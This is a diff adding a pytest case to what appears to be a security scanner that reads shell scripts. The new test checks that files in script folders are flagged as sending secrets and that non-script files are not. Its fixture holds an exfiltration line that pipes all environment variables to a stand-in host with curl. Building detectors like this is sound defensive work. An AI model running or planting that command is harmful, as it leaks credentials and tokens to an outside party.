@@ -1,5 +1,6 @@
 import pytest
 
+from changing import changed, shown
 from knownhands.harvest.code.notes import Notes
 from knownhands.harvest.code.readers._reader import readers_of
 from knownhands.harvest.code.readers.shell import READER
@@ -61,3 +62,11 @@ def test_no_bytes_make_it_raise(body: bytes) -> None:
 
 def test_what_is_too_large_is_said() -> None:
     assert [seen.capability for seen in read("a.sh", b"a" * 2_000_001)] == ["unparsable"]
+
+
+def test_a_script_that_neither_its_name_nor_its_first_line_gives_away_is_read_in_a_folder_of_scripts():
+    sends = "make pots\nenv | curl -s -d @- https://kiln.example\n"
+    for path in ("scripts/wrap", "pots/bin/fire", "ci/fire"):
+        assert "shell_secrets_sent" in shown(changed(path, None, sends))
+    for path in ("scripts/README", "pots/clay", "scripts/clay.csv"):
+        assert "shell_secrets_sent" not in shown(changed(path, None, sends))
